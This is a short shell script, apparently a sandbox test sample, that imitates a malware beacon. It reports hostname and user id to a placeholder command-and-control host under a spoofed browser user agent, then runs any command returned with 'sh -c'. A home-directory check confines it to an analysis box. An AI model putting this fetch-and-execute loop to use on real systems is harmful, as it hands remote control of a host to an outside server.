#!/bin/sh
# SPDX-License-Identifier: MIT
# Beacons to its C2 over HTTP: who and where it is, in a query string,
# with a browser's user agent; the answer would be the next command.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
id=$(hostname)-$(id -u)
ua='Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0 Safari/537.36'
for i in 1 2; do
	cmd=$(curl -s -m 2 -A "$ua" "http://api.telemetry-cdn.example.com/gate.php?id=$id&n=$i")
	[ -n "$cmd" ] && sh -c "$cmd"
done
wget -q -T 2 -t 1 -U "$ua" -O - "http://api.telemetry-cdn.example.com/ping?id=$id" 2>/dev/null
exit 0
